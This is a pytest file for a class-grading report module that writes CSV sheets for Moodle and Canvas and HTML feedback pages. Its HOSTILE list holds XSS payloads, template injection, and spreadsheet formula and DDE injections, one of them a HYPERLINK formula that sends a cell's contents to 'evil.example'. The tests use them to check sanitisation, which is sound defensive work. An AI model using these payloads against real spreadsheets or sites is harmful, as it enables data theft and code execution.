"""What is reported of a graded class: CSV files, feedback pages and the page of the class."""

import base64
import csv
import io
import weakref
from html.parser import HTMLParser

import nbformat
import pytest
from PIL import Image

from labkit.grading import class_page, feedback, report, sheets
from labkit.grading.records import (
    CRASHED,
    MANUAL,
    REFUSED,
    REPAIRED,
    Finding,
    Graded,
    Lab,
    Response,
)

SECRET = "assert abs(double(21) - 42) < 1e-6"
HOSTILE = (
    "</code></pre></style></title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x=\'',
    "{{ 7 * 7 }}{% raw %}",
    '=HYPERLINK("http://evil.example/?"&A1, "grade")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "＝1+1",
    "a\0b\x1b[31m",
    "\ud800 alone",
    "\u202egnitirw",
    'two\r\nlines, "quoted"; and more',
)

TAGS = (
    "html meta title style header section nav h1 h2 h3 p div span b br a ul li dl dt dd pre code"
    " blockquote figure figcaption picture source img details summary mark table thead tbody tr th"
    " td"
)
LONG = "".join(f"\nx = x.part{k}(x + {k}, key=x) * 2" for k in range(20))


def lab():
    """A lab with two exercises and a question."""
    notebook = nbformat.v4.new_notebook()
    new = nbformat.v4.new_code_cell
    notebook.cells.append(nbformat.v4.new_markdown_cell("# Lab 99 · Twice & thrice\n\nText."))
    for name, points in (("double", 2), ("triple", 3)):
        graded = {"grade_id": name, "grade": False, "solution": True}
        code = f'@exercise("{name}")\ndef {name}(x):\n    raise NotImplementedError'
        notebook.cells.append(new(code, metadata={"nbgrader": graded}))
        test = {"grade_id": f"{name}-test", "grade": True, "solution": False, "points": points}
        hidden = f"### BEGIN HIDDEN TESTS\n{SECRET}\n### END HIDDEN TESTS"
        code = f'check("{name}")\n{hidden}'
        notebook.cells.append(new(code, metadata={"nbgrader": test}))
    text = {"grade_id": "why", "grade": True, "solution": True, "points": 4}
    notebook.cells.append(nbformat.v4.new_markdown_cell("Why?", metadata={"nbgrader": text}))
    master = nbformat.writes(notebook)
    return Lab("99_twice", master, master.replace(SECRET, ""))


LAB = lab()


def png(size=(40, 30), kind="PNG"):
    buffer = io.BytesIO()
    Image.new("RGB", size, "teal").save(buffer, kind)
    return base64.b64encode(buffer.getvalue()).decode()


def graded(student, name="", earned=(2.0, 0.0, 4.0), findings=(), **more):
    """A submission with a right, a wrong and a marked answer."""
    wrong = Response(
        "triple", 3, earned[1], "wrong", "You doubled it.", ("twice",), "def triple(x):\n  2 * x"
    )
    answers = [
        Response("double", 2, earned[0], "right", "Well done.", (), "def double(x):\n  ...", png()),
        wrong,
        Response("why", 4, earned[2], "manual", "", (), "Because *it* is."),
    ]
    more = {"file": "99_twice.ipynb", "answers": answers} | more
    return Graded(student, name or student.title(), findings=list(findings), **more)


def write(folder, *results):
    report.write(folder, LAB, lambda: iter(results))
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def sheet(name, *results):
    return sheets.of(list(results), LAB)[name]


class Page(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, content):
        super().__init__()
        self.elements, self.text = [], ""
        self.feed(content if isinstance(content, str) else content.decode("utf-8"))

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data


# ── grades ──


def test_each_student_has_one_row_with_points_in_the_order_of_the_lab():
    found = rows(sheet("grades.csv", graded("ada"), graded("bob")))
    assert [row["student"] for row in found] == ["ada", "bob"]
    assert list(found[0])[5:] == ["total", "max", "double", "triple", "why", "findings"]
    assert [found[0][k] for k in ("total", "max", "double", "triple", "why")] == list("69204")


def test_what_is_not_decided_is_empty_and_never_0():
    open_ = graded("ada", earned=(2.0, 0.0, None), findings=[Finding("text", "Waits.", MANUAL)])
    refused = graded("bob", earned=(0.0, 0.0, 0.0), findings=[Finding("none", "No.", REFUSED)])
    empty = graded("cyd", answers=[], findings=[Finding("none", "No.", REFUSED)])
    one, *others = rows(sheet("grades.csv", open_, refused, empty))
    assert [one[k] for k in ("total", "double", "triple", "why")] == ["", "2", "0", ""]
    for row in others:
        assert {row[k] for k in ("total", "double", "triple", "why")} == {""}
        assert row["status"] == "refused" and row["max"] == "9" and row["findings"] == "none: No."


def test_moodle_gets_the_columns_that_its_import_needs_and_only_its_students():
    some = dict(source="moodle", identifier="Participant 17")
    waits = dict(some, identifier="Participant 18", earned=(2.0, 0.0, None))
    made = graded("a", **some), graded("b", **waits), graded("c")
    found = rows(sheet("moodle.csv", *made))
    assert [row["Identifier"] for row in found] == ["Participant 17", "Participant 18"]
    assert [row["Grade"] for row in found] == ["6", ""]
    assert {row["Maximum grade"] for row in found} == {"9"}
    assert {"Full name", "Last modified (grade)", "Feedback comments"} < set(found[0])
    assert "You doubled it." in found[0]["Feedback comments"]


def test_canvas_gets_the_points_possible_and_nobody_who_has_no_total():
    some = dict(source="canvas", identifier="901")
    waits = dict(source="canvas", identifier="902", earned=(2.0, 0.0, None))
    text = sheet("canvas.csv", graded("a", **some), graded("b", **waits))
    head, possible, *students = csv.reader(io.StringIO(text))
    assert head == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "99_twice"]
    assert possible[0] == "Points Possible" and possible[-1] == "9"
    assert students == [["A", "901", "", "", "", "6"]]  # an empty cell would delete a grade


def test_files_for_moodle_and_canvas_are_there_only_if_somebody_came_from_there():
    assert sheet("moodle.csv", graded("a", source="moodle"))
    assert sheet("canvas.csv", graded("a", source="canvas"))
    assert not sheet("moodle.csv", graded("a")) and not sheet("canvas.csv", graded("a"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_of_a_csv_is_computed_by_a_spreadsheet(hostile):
    finding = Finding(hostile, hostile, REPAIRED)
    more = dict(file=hostile, findings=[finding], identifier=hostile)
    made = [graded(s, hostile, source=s, **more) for s in ("folder", "moodle", "canvas")]
    for text in sheets.of(made, LAB).values():
        text.encode("utf-8")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert cell == "-" or cell.strip()[:1] not in tuple("=+-@＝＋－＠"), cell
                assert cell.isprintable()


def test_points_are_written_without_needless_digits():
    assert [sheets.number(x) for x in (0.0, 2.0, 10.0, 1.5, 1 / 3, None)] == [
        "0", "2", "10", "1.5", "0.33", ""
    ]  # fmt: skip


# ── pages ──


def test_nothing_from_a_notebook_becomes_part_of_a_page(tmp_path):
    """Each hostile text stands wherever a text can stand."""

    def made(text, student):
        answers = [
            Response("double", 2, 0.0, "wrong", text, (text,), text, text),
            Response("triple", 3, 0.0, text, text, (text,), f"'''{text}'''\n# {text}" + LONG),
            Response("why", 4, None, "manual", text, (), text),
        ]
        findings = [Finding(text, text, MANUAL, "double"), Finding(text, text, CRASHED, text)]
        return Graded(student, text, file=text, answers=answers, findings=findings)

    files = write(tmp_path, *(made(text, f"s{k}") for k, text in enumerate(HOSTILE)))
    pages = [name for name in files if name.endswith(".html")]
    assert len(pages) == len(HOSTILE) + 1
    for name in pages:
        page = Page(files[name])
        assert {tag for tag, _ in page.elements} <= set(TAGS.split())
        assert not any(key.startswith("on") for _, found in page.elements for key in found)
        assert page.text.count("7 * 7") == page.text.count("{% raw %}")
        pictures = [found["src"] for tag, found in page.elements if tag == "img"]
        assert all(uri.startswith("data:image/svg+xml;base64,") for uri in pictures)


def test_pages_need_no_network_and_pictures_have_alternative_texts(tmp_path):
    files = write(tmp_path, graded("ada"), graded("bob"))
    for name in ("class.html", "feedback/ada.html"):
        page = Page(files[name])
        images = [found for tag, found in page.elements if tag == "img"]
        assert images and all(found["alt"] for found in images)
        links = [v for _, found in page.elements for k, v in found.items() if k in ("src", "href")]
        assert all(v.startswith(("data:image/", "#", "feedback/")) for v in links)
        assert all((tmp_path / v).is_file() for v in links if v.startswith("feedback/"))
        policy = [found["content"] for tag, found in page.elements if "http-equiv" in found]
        assert policy and policy[0].startswith("default-src 'none'")
        assert b"prefers-color-scheme: dark" in files[name]


def test_feedback_has_points_answer_mistake_picture_and_findings():
    findings = [Finding("cell twice", "The last one counts.", REPAIRED, "double")]
    page = Page(feedback.page(graded("ada", findings=findings), LAB))
    for text in ("2 of 2 points", "0 of 3 points", "4 of 4 points", "You doubled it.", "repaired"):
        assert text in page.text
    assert "def triple(x):" in page.text and "Because *it* is." in page.text
    assert "cell twice" in page.text and "The last one counts." in page.text
    assert [f["src"] for tag, f in page.elements if tag == "img"] == [
        f"data:image/png;base64,{png()}"
    ]


def test_a_feedback_page_names_nobody_else(tmp_path):
    code = "def double(x):\n" + "".join(f"    x = x.a{k}(x + {k}) * 2\n" for k in range(20))
    twins = [graded(s, answers=[Response("double", 2, 2.0, "right", "", (), code)]) for s in "ab"]
    files = write(tmp_path, graded("ada", "Ada Lovelace"), graded("bob", "Bob Ross"), *twins)
    assert b"Bob" not in files["feedback/ada.html"] and b"Ada" not in files["feedback/bob.html"]
    assert b"Alike (1)" in files["class.html"] and b"alike" not in files["feedback/a.html"]


def test_hidden_tests_are_nowhere_even_where_a_text_has_them(tmp_path):
    text = f"It raises AssertionError in the line `{SECRET}`"
    answers = [Response("double", 2, 0.0, "wrong", text, (), "def double(x):\n    pass")]
    findings = [Finding("failed", text, MANUAL, "double")]
    files = write(tmp_path, graded("ada", answers=answers, findings=findings, source="moodle"))
    for name, content in files.items():
        text = Page(content).text
        assert SECRET not in text and "It raises AssertionError" in text, name


@pytest.mark.parametrize("given", ["", "%%%", "bm8=", png(kind="JPEG"), png()[:60], "é" * 8])
def test_what_is_no_png_is_not_shown(given):
    assert feedback.picture(given) == ("", 0)


def test_a_picture_with_too_many_pixels_is_not_shown(monkeypatch):
    assert feedback.picture(png())[1] == 40
    monkeypatch.setattr(feedback, "PIXELS", 40 * 30 - 1)
    assert feedback.picture(png()) == ("", 0)


def test_a_picture_is_shown_from_its_own_bytes_only():
    svg = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'/>").decode()
    assert feedback.picture(svg) == ("", 0)
    assert feedback.picture(png() + '"><script>') == ("", 0)


def test_every_page_of_a_run_without_sandbox_says_so(tmp_path):
    safe = write(tmp_path / "safe", graded("ada"), graded("bob"))
    unsafe = write(
        tmp_path / "unsafe", graded("ada", sandboxed=False), graded("bob", sandboxed=False)
    )
    for name in ("class.html", "feedback/ada.html", "feedback/bob.html"):
        assert b"without a sandbox" in unsafe[name] and b"without a sandbox" not in safe[name]


def test_a_refused_notebook_has_no_points_on_its_page():
    made = graded("ada", earned=(0.0, 0.0, 0.0), findings=[Finding("zip", "Broken.", REFUSED)])
    text = Page(feedback.page(made, LAB)).text
    assert "no grade yet" in text and "Broken." in text and "points" not in text.split("Broken")[1]


def test_the_class_page_begins_with_who_needs_a_human_and_why():
    made = [
        graded("ada", findings=[Finding("cell twice", "Repaired it.", REPAIRED)]),
        graded("bob", findings=[Finding("no time left", "Too slow.", CRASHED)]),
        graded("cyd", findings=[Finding("result out of band", "Far off.", MANUAL)]),
        graded("dee", answers=[], findings=[Finding("no notebook", "A PDF.", REFUSED)]),
    ]
    text = Page(class_page.page(made, LAB)).text
    people = text.split("For you to look at")[1].split("Points")[0]
    order = [people.index(reason) for reason in ("A PDF.", "Far off.", "Too slow.")]
    assert order == sorted(order) and "Repaired it." not in people
    assert all(f"1 {status}" in text for status in ("repaired", "crashed", "manual", "refused"))


def test_answers_that_wait_for_marks_are_counted_and_not_listed():
    waits = [Finding("text", "Waits for marks.", MANUAL, "why")]
    made = [graded(s, earned=(2.0, 0.0, None), findings=waits) for s in "abc"]
    assert class_page.waiting(made, LAB) == {"why": 3}
    assert list(class_page.people(made, LAB)) == []


def test_an_exercise_is_told_by_states_and_mistakes_with_the_most_frequent_first():
    def answer(state, text="", *mistakes):
        earned = 2.0 if state == "right" else 0.0
        return [Response("double", 2, earned, state, text, mistakes)]

    answers = [
        answer("right"),
        answer("wrong", "Rare.", "rare"),
        *[answer("wrong", "You halved it.", "half")] * 3,
        answer("wrong", "Two things at once.", "half", "rare"),
        answer("wrong", "It should be 4 and is 7."),
        answer("crashed"),
        answer("not attempted"),
    ]
    made = [graded(f"s{k}", answers=a) for k, a in enumerate(answers)]
    made.append(graded("no", answers=answer("wrong"), findings=[Finding("x", "X.", REFUSED)]))
    found = class_page.exercise("double", made, LAB)
    assert found["states"] == {"right": 1, "wrong": 6, "not attempted": 1, "crashed": 1}
    assert found["mistakes"] == [(4, "half", "You halved it."), (2, "rare", "Rare.")]
    assert (found["n"], found["failed"], found["nameless"]) == (9, 8, 1)


def test_two_of_the_same_name_are_told_apart():
    made = [graded("anna-1", "Anna"), graded("anna-2", "Anna"), graded("bob", "Bob")]
    assert list(class_page.called(made).values()) == ["Anna (anna-1)", "Anna (anna-2)", "Bob"]


def test_alike_lines_stand_side_by_side_with_what_differs_marked():
    one, other = "a = f(1)\nreturn a\n", "# mine\nbee = f(1)\nreturn bee\n"
    found = list(class_page.compared(one, other))
    joined = [tuple("".join(text for text, _ in side) for side in row) for row in found]
    assert joined == [("", "# mine"), ("a = f(1)", "bee = f(1)"), ("return a", "return bee")]
    marked = [[text for text, differs in side if differs] for row in found for side in row]
    assert marked == [[], ["# mine"], ["a"], ["bee"], ["a"], ["bee"]]


def test_a_class_of_nobody_has_a_page(tmp_path):
    assert b"0</b> handed in" in write(tmp_path)["class.html"]


# ── the files ──


def test_the_same_results_give_the_same_bytes(tmp_path):
    made = [
        graded(s, source=source)
        for s, source in (("a", "moodle"), ("b", "canvas"), ("c", "folder"))
    ]
    one = write(tmp_path / "one", *made)
    assert one == write(tmp_path / "one", *made) == write(tmp_path / "turned", *reversed(made))


def test_what_an_earlier_run_left_is_taken_away(tmp_path):
    write(tmp_path, graded("ada", source="moodle"), graded("bob"))
    (tmp_path / "notes.txt").write_text("mine")
    assert set(write(tmp_path, graded("bob"))) == {
        "class.html", "feedback/bob.html", "grades.csv", "notes.txt"
    }  # fmt: skip


@pytest.mark.parametrize("key", ["../ada", "a/b", "", "..", "a b", "ä", ".hidden\n"])
def test_a_key_that_is_no_file_name_is_refused(tmp_path, key):
    with pytest.raises(ValueError, match="cannot name a page"):
        write(tmp_path / "out", graded(key))
    assert [path.name for path in tmp_path.iterdir()] in ([], ["out"])


def test_a_student_who_comes_twice_is_refused(tmp_path):
    with pytest.raises(ValueError, match="each once"):
        write(tmp_path, graded("ada"), graded("ada"))


def test_only_one_submission_at_a_time_is_held_as_a_whole(tmp_path):
    alive = []

    def load():
        for k in range(10):
            made = graded(f"s{k}", notebook="x" * 1000)
            alive.append(weakref.ref(made))
            yield made
            del made
            assert sum(ref() is not None for ref in alive) <= 1

    report.write(tmp_path, LAB, load)
    assert len(alive) == 10
    kept = report.light(graded("ada", notebook="x" * 1000))
    assert kept.notebook == "" and not any(answer.picture for answer in kept.answers)
